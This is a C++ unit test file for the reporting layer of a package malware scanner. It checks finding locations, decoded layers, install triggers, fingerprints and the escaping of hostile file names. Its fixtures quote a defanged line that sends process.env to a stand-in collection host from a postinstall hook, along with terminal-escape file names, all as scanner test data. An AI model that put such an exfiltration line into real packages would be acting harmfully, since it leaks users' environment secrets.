#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/hash.h"
#include "report/report_for_test.h"
#include "report/tally.h"

namespace assay {
namespace {

using testing::HasSubstr;
using testing::Not;

TEST(BuildReport, Gives_the_place_and_the_line_of_a_finding) {
  const Report report = Incident().report();
  const ReportedFinding& finding = report.findings[0];
  EXPECT_EQ(finding.rule, &sends_rule);
  EXPECT_EQ(finding.place.path, "index.js");
  EXPECT_EQ(finding.place.begin, (Position{2, 2}));
  EXPECT_EQ(finding.place.excerpt.text, "send('hxxps://collect[.]example[.]test/x', e);");
  EXPECT_EQ(finding.message, "sends process.env to hxxps://collect[.]example[.]test/x");
  EXPECT_EQ(finding.steps[0].place.begin, (Position{1, 11}));
}

TEST(BuildReport, Says_when_the_file_runs) {
  const Report report = Incident().report();
  EXPECT_EQ(report.findings[0].trigger, Trigger::install);
  EXPECT_EQ(report.findings[0].reached_by, "postinstall");
}

TEST(BuildReport, Decoded_code_is_shown_at_the_line_that_it_came_from) {
  const Report report = Incident().report();
  const Place& place = report.findings[1].place;
  EXPECT_EQ(place.begin, (Position{3, 1}));
  ASSERT_TRUE(place.layer);
  EXPECT_EQ(place.layer->how, "base64");
  EXPECT_EQ(place.layer->begin, (Position{2, 2}));
  EXPECT_EQ(place.layer->excerpt.text, "send()");
}

TEST(BuildReport, Layers_in_layers_lead_back_to_the_file) {
  Incident incident;
  const Where in_first = {.file = 0, .layer = 0, .begin = 0, .end = 3};
  incident.facts.layers.push_back({Layer::Kind::python, in_first, 2, "zlib", "import os"});
  incident.findings[1].where = {.file = 0, .layer = 1, .begin = 7, .end = 9};
  const Report report = incident.report();
  EXPECT_EQ(report.findings[1].place.begin, (Position{3, 1}));
  EXPECT_EQ(report.findings[1].place.layer->depth, 2);
}

TEST(BuildReport, A_layer_that_claims_to_come_from_itself_ends) {
  Incident incident;
  incident.facts.layers[0].from = {.file = 0, .layer = 0};
  EXPECT_EQ(incident.report().findings.size(), 3u);
}

TEST(BuildReport, A_finding_on_the_package_has_no_path_and_the_hash_of_the_artifact) {
  const Report report = Incident().report();
  EXPECT_EQ(report.findings[2].place, Place{});
  EXPECT_EQ(report.findings[2].file_sha256, std::string(64, 'a'));
}

TEST(BuildReport, Names_the_content_hash_that_an_exception_needs) {
  const Incident incident;
  EXPECT_EQ(incident.report().findings[0].file_sha256,
            hash_hex(HashKind::sha256, incident.package.files[0].bytes));
}

TEST(BuildReport, Fingerprints_survive_added_lines_and_tell_like_findings_apart) {
  Incident before;
  before.findings.push_back(before.findings[0]);
  Incident after;
  after.package.files[0].bytes.insert(0, "// new line\n");
  for (Finding& finding : after.findings) {
    if (finding.where.layer < 0 && finding.where.file == 0) {
      finding.where.begin += 12;
      finding.where.end += 12;
    }
  }
  EXPECT_EQ(before.report().findings[0].fingerprint, after.report().findings[0].fingerprint);
  EXPECT_NE(before.report().findings[0].fingerprint, before.report().findings[3].fingerprint);
}

TEST(BuildReport, Binary_files_have_offsets_instead_of_lines) {
  Incident incident;
  incident.package.files[0].kind = FileKind::native;
  const Place place = incident.report().findings[0].place;
  EXPECT_FALSE(place.begin);
  EXPECT_EQ(place.begin_byte, 24u);
  EXPECT_EQ(place.excerpt.text, "");
}

TEST(BuildReport, Everything_from_the_package_is_escaped) {
  Incident incident;
  incident.package.files[0].path = "a\x1b[2Jb\u202E.js";
  incident.package.id.name = "de\nmo";
  incident.facts.gaps = {{GapKind::link, "l\rink", "points to \x07"}};
  const Report report = incident.report();
  EXPECT_EQ(report.findings[0].place.path, "a\\x1b[2Jb\\u{202e}.js");
  EXPECT_EQ(report.id.name, "de\\nmo");
  EXPECT_EQ(report.gaps[0].path, "l\\rink");
  EXPECT_EQ(report.gaps[0].reason, "points to \\x07");
}

TEST(BuildReport, A_package_nobody_named_has_the_name_that_it_gives_itself) {
  Incident incident;
  incident.package.id = {};
  incident.facts.npm.emplace();
  incident.facts.npm->name = "called";
  incident.facts.npm->version = "3.0.0";
  EXPECT_EQ(incident.report().purl, "pkg:npm/called@3.0.0");
  incident.facts.npm.reset();
  incident.facts.python.emplace().metadata.emplace();
  incident.facts.python->metadata->name = "Called";
  EXPECT_EQ(incident.report().id.ecosystem, Ecosystem::pypi);
}

TEST(BuildReport, An_excepted_finding_stays_with_the_reason) {
  Incident incident;
  const Verdict verdict = {.reasons = {}, .excepted = {{0, "known"}}};
  const Report report = build_report(incident.facts, incident.findings, verdict, rules_for_test);
  EXPECT_EQ(report.findings[0].excepted, "known");
  EXPECT_FALSE(report.findings[1].excepted);
}

TEST(BuildReport, Dropped_files_and_places_outside_the_package_do_no_harm) {
  Incident incident;
  incident.package.files[0].bytes.clear();
  incident.package.files[0].dropped = true;
  incident.findings[2].where = {.file = 99, .layer = 7, .begin = 5, .end = 1};
  const Report report = incident.report();
  EXPECT_FALSE(report.findings[0].place.begin);
  EXPECT_EQ(report.findings[0].file_sha256, "");
  EXPECT_EQ(report.findings[2].place.path, "");
}

TEST(Tally, Tells_our_failures_from_those_of_the_input) {
  Tally tally;
  tally.count(Incident().report());
  tally.count(clean_report());
  tally.count(failed_report("a.tgz", {ErrorKind::malformed, "a.tgz: not an archive"}));
  tally.count(failed_report("npm:a", {ErrorKind::network, "no answer"}));
  EXPECT_EQ(tally.targets, 4u);
  EXPECT_EQ(tally.blocked, 1u);
  EXPECT_EQ(tally.allowed, 1u);
  EXPECT_EQ(tally.incomplete, 1u);
  EXPECT_EQ(tally.failed, 1u);
  EXPECT_EQ(tally.broken, 1u);
}

}  // namespace
}  // namespace assay
